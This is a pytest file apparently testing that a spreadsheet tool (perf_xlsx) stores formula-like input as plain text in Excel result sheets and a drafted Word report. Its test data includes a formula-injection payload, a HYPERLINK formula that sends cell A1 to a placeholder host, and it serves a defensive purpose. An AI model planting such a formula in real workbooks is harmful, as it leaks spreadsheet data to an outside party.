"""Nothing perf-xlsx writes into a workbook is a formula it did not make (issues 14 §1, 18 §1):
text that looks like a formula (= + - @, a tab, a CR) goes through the 自评表 and 检查结果 writers
as text, and through the drafted .docx as the characters typed."""
from __future__ import annotations

import io
from pathlib import Path

import pytest
from factory import default_indicators, default_info
from model_factory import build_project
from openpyxl import load_workbook

from perf_xlsx.check import check_project
from perf_xlsx.write import build_result_sheets

LOOKS_LIKE = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "+1+2", "-3-4", "@SUM(A1:A9)",
              "\t=1+1", "=1+1\r"]


@pytest.mark.parametrize("text", LOOKS_LIKE)
def test_result_sheets_hold_formula_like_text_as_text(text: str) -> None:
    info = {**default_info(), "project_name": text, "department": text, "goal_expected": text,
            "goal_actual": text}
    inds = default_indicators()
    inds[0] = {**inds[0], "level3": text, "actual": text, "deviation": text}
    report = check_project(build_project(info, indicators=inds))
    book = load_workbook(io.BytesIO(build_result_sheets(report)))
    seen = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.append(cell.value.replace("_x000D_", "\r"))
    assert any(text.strip() in v for v in seen)


def test_drafted_report_keeps_formula_like_text(tmp_path: Path) -> None:
    import docx

    from perf_xlsx.report.docx import build_report

    text = LOOKS_LIKE[0]
    report = check_project(build_project({**default_info(), "goal_actual": text}))
    build_report(report, tmp_path / "r.docx")
    body = "\n".join(p.text for p in docx.Document(str(tmp_path / "r.docx")).paragraphs)
    assert text in body
